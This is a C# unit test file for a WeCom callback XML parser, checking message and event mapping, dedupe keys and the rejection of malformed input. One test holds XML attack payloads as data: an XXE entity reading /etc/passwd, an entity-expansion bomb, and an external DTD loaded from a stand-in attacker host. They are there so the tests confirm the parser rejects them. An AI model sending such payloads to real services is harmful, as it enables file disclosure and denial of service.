namespace ChatOps.Channels.WeCom.Tests;

/// <summary>
/// Packet shapes follow WeCom's documents for self-built apps: 接收消息 (message formats), 事件格式
/// (https://developer.work.weixin.qq.com/document/path/90240 and 90376: subscribe, enter_agent, click,
/// 模板卡片事件推送 with EventKey, TaskId, CardType, ResponseCode and SelectedItems).
/// </summary>
public class WeComInboundParserTests
{
    [Fact]
    public void Parse_TextMessage_MapsFieldsAndDedupesOnMsgId()
    {
        const string xml = """
            <xml>
              <ToUserName><![CDATA[ww1436e0e65a779aee]]></ToUserName>
              <FromUserName><![CDATA[zhangsan]]></FromUserName>
              <CreateTime>1348831860</CreateTime>
              <MsgType><![CDATA[text]]></MsgType>
              <Content><![CDATA[本周完成整改 12 项]]></Content>
              <MsgId>1234567890123456</MsgId>
              <AgentID>1000002</AgentID>
            </xml>
            """;

        var inbound = WeComInboundParser.Parse(xml);

        Assert.Equal(WeComInboundKind.Text, inbound.Kind);
        Assert.Equal("ww1436e0e65a779aee", inbound.ToUserName);
        Assert.Equal("zhangsan", inbound.FromUserName);
        Assert.Equal(1348831860L, inbound.CreateTime);
        Assert.Equal(DateTimeOffset.FromUnixTimeSeconds(1348831860), inbound.CreatedAt);
        Assert.Equal("text", inbound.MsgType);
        Assert.Equal("本周完成整改 12 项", inbound.Content);
        Assert.Equal("1234567890123456", inbound.MsgId);
        Assert.Equal("1000002", inbound.AgentId);
        Assert.Null(inbound.Event);
        Assert.Null(inbound.SelectedButtonKey);
        Assert.Equal("msg:1234567890123456", inbound.DedupeKey);
    }

    [Fact]
    public void Parse_TextWithChatId_KeepsChatId()
    {
        const string xml = "<xml><ToUserName>c</ToUserName><FromUserName>u</FromUserName><CreateTime>1</CreateTime><MsgType>text</MsgType><Content>hi</Content><MsgId>7</MsgId><ChatId><![CDATA[wrOgQhDgAAMYQiS5ol9G7gK9JVAAAA]]></ChatId></xml>";

        Assert.Equal("wrOgQhDgAAMYQiS5ol9G7gK9JVAAAA", WeComInboundParser.Parse(xml).ChatId);
    }

    [Theory]
    [InlineData("image", "<PicUrl><![CDATA[https://p.qpic.cn/x]]></PicUrl><MediaId><![CDATA[media_img]]></MediaId>", "media_img")]
    [InlineData("voice", "<MediaId><![CDATA[media_voice]]></MediaId><Format><![CDATA[amr]]></Format>", "media_voice")]
    [InlineData("video", "<MediaId><![CDATA[media_video]]></MediaId><ThumbMediaId><![CDATA[t]]></ThumbMediaId>", "media_video")]
    [InlineData("file", "<MediaId><![CDATA[media_file]]></MediaId>", "media_file")]
    [InlineData("location", "<Location_X>23.134</Location_X><Location_Y>113.358</Location_Y><Scale>20</Scale><Label><![CDATA[位置]]></Label>", null)]
    [InlineData("link", "<Title><![CDATA[t]]></Title><Url><![CDATA[https://example.org]]></Url>", null)]
    public void Parse_NonTextMessages_AreAcceptedAsOtherContent(string msgType, string extra, string? mediaId)
    {
        var xml = $"<xml><ToUserName>c</ToUserName><FromUserName>u</FromUserName><CreateTime>1357290913</CreateTime><MsgType><![CDATA[{msgType}]]></MsgType>{extra}<MsgId>99</MsgId><AgentID>1</AgentID></xml>";

        var inbound = WeComInboundParser.Parse(xml);

        Assert.Equal(WeComInboundKind.OtherContent, inbound.Kind);
        Assert.Equal(msgType, inbound.MsgType);
        Assert.Equal(mediaId, inbound.MediaId);
        Assert.Null(inbound.Content);
        Assert.Equal("msg:99", inbound.DedupeKey);
    }

    [Fact]
    public void Parse_ImageMessage_KeepsAllSimpleFields()
    {
        const string xml = "<xml><ToUserName>c</ToUserName><FromUserName>u</FromUserName><CreateTime>1</CreateTime><MsgType>image</MsgType><PicUrl>https://p.qpic.cn/x</PicUrl><MediaId>m</MediaId><MsgId>5</MsgId></xml>";

        var inbound = WeComInboundParser.Parse(xml);

        Assert.Equal("https://p.qpic.cn/x", inbound.Fields["PicUrl"]);
        Assert.Equal("m", inbound.Fields["MediaId"]);
    }

    [Fact]
    public void Parse_EnterAgentEvent_DedupesOnSenderTimeAndEvent()
    {
        const string xml = """
            <xml><ToUserName><![CDATA[toUser]]></ToUserName>
            <FromUserName><![CDATA[FromUser]]></FromUserName>
            <CreateTime>1408091189</CreateTime>
            <MsgType><![CDATA[event]]></MsgType>
            <Event><![CDATA[enter_agent]]></Event>
            <EventKey><![CDATA[]]></EventKey>
            <AgentID>1</AgentID>
            </xml>
            """;

        var inbound = WeComInboundParser.Parse(xml);

        Assert.Equal(WeComInboundKind.Event, inbound.Kind);
        Assert.Equal(WeComEventTypes.EnterAgent, inbound.Event);
        Assert.Equal(string.Empty, inbound.EventKey);
        Assert.Null(inbound.MsgId);
        Assert.Equal("evt:FromUser:1408091189:enter_agent", inbound.DedupeKey);
    }

    [Fact]
    public void Parse_SubscribeEvent_IsEvent()
    {
        const string xml = """
            <xml>
            <ToUserName><![CDATA[toUser]]></ToUserName>
            <FromUserName><![CDATA[UserID]]></FromUserName>
            <CreateTime>1348831860</CreateTime>
            <MsgType><![CDATA[event]]></MsgType>
            <Event><![CDATA[subscribe]]></Event>
            <AgentID>1</AgentID>
            </xml>
            """;

        var inbound = WeComInboundParser.Parse(xml);

        Assert.Equal(WeComEventTypes.Subscribe, inbound.Event);
        Assert.Null(inbound.EventKey);
        Assert.Equal("evt:UserID:1348831860:subscribe", inbound.DedupeKey);
    }

    [Fact]
    public void Parse_MenuClickEvent_KeepsEventKey()
    {
        const string xml = """
            <xml>
            <ToUserName><![CDATA[toUser]]></ToUserName>
            <FromUserName><![CDATA[FromUser]]></FromUserName>
            <CreateTime>123456789</CreateTime>
            <MsgType><![CDATA[event]]></MsgType>
            <Event><![CDATA[click]]></Event>
            <EventKey><![CDATA[weekly_report]]></EventKey>
            <AgentID>1</AgentID>
            </xml>
            """;

        var inbound = WeComInboundParser.Parse(xml);

        Assert.Equal(WeComEventTypes.Click, inbound.Event);
        Assert.Equal("weekly_report", inbound.EventKey);
        Assert.Null(inbound.SelectedButtonKey);
    }

    [Fact]
    public void Parse_TemplateCardButtonClick_MapsTaskCardResponseCodeAndButton()
    {
        const string xml = """
            <xml>
            <ToUserName><![CDATA[toUser]]></ToUserName>
            <FromUserName><![CDATA[FromUser]]></FromUserName>
            <CreateTime>123456789</CreateTime>
            <MsgType><![CDATA[event]]></MsgType>
            <Event><![CDATA[template_card_event]]></Event>
            <EventKey><![CDATA[leave:approve]]></EventKey>
            <TaskId><![CDATA[meeting-2026-03-leave-17]]></TaskId>
            <CardType><![CDATA[button_interaction]]></CardType>
            <ResponseCode><![CDATA[ResponseCode]]></ResponseCode>
            <AgentID>1</AgentID>
            </xml>
            """;

        var inbound = WeComInboundParser.Parse(xml);

        Assert.Equal(WeComInboundKind.Event, inbound.Kind);
        Assert.Equal(WeComEventTypes.TemplateCardEvent, inbound.Event);
        Assert.Equal("meeting-2026-03-leave-17", inbound.TaskId);
        Assert.Equal("button_interaction", inbound.CardType);
        Assert.Equal("ResponseCode", inbound.ResponseCode);
        Assert.Equal("leave:approve", inbound.EventKey);
        Assert.Equal("leave:approve", inbound.SelectedButtonKey);
        Assert.Empty(inbound.SelectedItems);
        Assert.Equal("evt:FromUser:123456789:template_card_event", inbound.DedupeKey);
    }

    [Fact]
    public void Parse_VoteCardEvent_MapsSelectedItems()
    {
        const string xml = """
            <xml>
            <ToUserName><![CDATA[toUser]]></ToUserName>
            <FromUserName><![CDATA[FromUser]]></FromUserName>
            <CreateTime>123456789</CreateTime>
            <MsgType><![CDATA[event]]></MsgType>
            <Event><![CDATA[template_card_event]]></Event>
            <EventKey><![CDATA[submit]]></EventKey>
            <TaskId><![CDATA[taskid111]]></TaskId>
            <CardType><![CDATA[multiple_interaction]]></CardType>
            <ResponseCode><![CDATA[rc]]></ResponseCode>
            <AgentID>1</AgentID>
            <SelectedItems>
                <SelectedItem>
                    <QuestionKey><![CDATA[QuestionKey1]]></QuestionKey>
                    <OptionIds>
                        <OptionId><![CDATA[OptionId1]]></OptionId>
                        <OptionId><![CDATA[OptionId2]]></OptionId>
                    </OptionIds>
                </SelectedItem>
                <SelectedItem>
                    <QuestionKey><![CDATA[QuestionKey2]]></QuestionKey>
                    <OptionIds>
                        <OptionId><![CDATA[OptionId3]]></OptionId>
                    </OptionIds>
                </SelectedItem>
            </SelectedItems>
            </xml>
            """;

        var inbound = WeComInboundParser.Parse(xml);

        Assert.Equal(2, inbound.SelectedItems.Count);
        Assert.Equal("QuestionKey1", inbound.SelectedItems[0].QuestionKey);
        Assert.Equal(["OptionId1", "OptionId2"], inbound.SelectedItems[0].OptionIds);
        Assert.Equal("QuestionKey2", inbound.SelectedItems[1].QuestionKey);
        Assert.Equal(["OptionId3"], inbound.SelectedItems[1].OptionIds);
    }

    [Fact]
    public void Parse_UnlistedEventType_IsAccepted()
    {
        const string xml = "<xml><ToUserName>c</ToUserName><FromUserName>u</FromUserName><CreateTime>5</CreateTime><MsgType>event</MsgType><Event>change_contact</Event></xml>";

        Assert.Equal("evt:u:5:change_contact", WeComInboundParser.Parse(xml).DedupeKey);
    }

    [Theory]
    [InlineData("hologram")]
    [InlineData("TEXT")]
    [InlineData("miniprogram_notice")]
    public void Parse_UnknownMsgType_FailsWithUnknownMessageType(string msgType)
    {
        var xml = $"<xml><ToUserName>c</ToUserName><FromUserName>u</FromUserName><CreateTime>1</CreateTime><MsgType>{msgType}</MsgType><MsgId>1</MsgId></xml>";

        var ex = Assert.Throws<WeComCallbackException>(() => WeComInboundParser.Parse(xml));

        Assert.Equal(WeComCallbackFailureReason.UnknownMessageType, ex.Reason);
    }

    [Theory]
    [InlineData("<xml><FromUserName>u</FromUserName><CreateTime>1</CreateTime><MsgType>text</MsgType><MsgId>1</MsgId></xml>")]
    [InlineData("<xml><ToUserName>c</ToUserName><CreateTime>1</CreateTime><MsgType>text</MsgType><MsgId>1</MsgId></xml>")]
    [InlineData("<xml><ToUserName>c</ToUserName><FromUserName>u</FromUserName><MsgType>text</MsgType><MsgId>1</MsgId></xml>")]
    [InlineData("<xml><ToUserName>c</ToUserName><FromUserName>u</FromUserName><CreateTime>1</CreateTime><MsgId>1</MsgId></xml>")]
    [InlineData("<xml><ToUserName>c</ToUserName><FromUserName>u</FromUserName><CreateTime>1</CreateTime><MsgType>text</MsgType></xml>")]
    [InlineData("<xml><ToUserName>c</ToUserName><FromUserName>u</FromUserName><CreateTime>1</CreateTime><MsgType>event</MsgType></xml>")]
    [InlineData("<xml><ToUserName>c</ToUserName><FromUserName>u</FromUserName><CreateTime>soon</CreateTime><MsgType>text</MsgType><MsgId>1</MsgId></xml>")]
    [InlineData("<xml><ToUserName>c</ToUserName><FromUserName>u</FromUserName><CreateTime>-1</CreateTime><MsgType>text</MsgType><MsgId>1</MsgId></xml>")]
    [InlineData("<message><ToUserName>c</ToUserName></message>")]
    [InlineData("<xml><Content>unclosed</xml>")]
    [InlineData("<xml>&undeclared;</xml>")]
    public void Parse_MissingFieldsOrBadXml_FailsWithMalformedXml(string xml)
    {
        var ex = Assert.Throws<WeComCallbackException>(() => WeComInboundParser.Parse(xml));

        Assert.Equal(WeComCallbackFailureReason.MalformedXml, ex.Reason);
    }

    [Theory]
    [InlineData("""<!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><xml><Content>&xxe;</Content></xml>""")]
    [InlineData("""<?xml version="1.0" encoding="utf-8"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;">]><xml>&lol2;</xml>""")]
    [InlineData("""<!DOCTYPE xml SYSTEM "http://attacker.example/evil.dtd"><xml/>""")]
    public void Parse_Doctype_FailsWithDtdProhibited(string xml)
    {
        var ex = Assert.Throws<WeComCallbackException>(() => WeComInboundParser.Parse(xml));

        Assert.Equal(WeComCallbackFailureReason.DtdProhibited, ex.Reason);
    }

    [Fact]
    public void Parse_DoctypeTextInsideCData_IsJustText()
    {
        const string xml = "<xml><ToUserName>c</ToUserName><FromUserName>u</FromUserName><CreateTime>1</CreateTime><MsgType>text</MsgType><Content><![CDATA[<!DOCTYPE x>]]></Content><MsgId>1</MsgId></xml>";

        Assert.Equal("<!DOCTYPE x>", WeComInboundParser.Parse(xml).Content);
    }

    [Fact]
    public void Parse_OverMaxLength_FailsWithTooLarge()
    {
        var xml = "<xml><Content>" + new string('x', 1024 * 1024) + "</Content></xml>";

        var ex = Assert.Throws<WeComCallbackException>(() => WeComInboundParser.Parse(xml));

        Assert.Equal(WeComCallbackFailureReason.TooLarge, ex.Reason);
    }
}
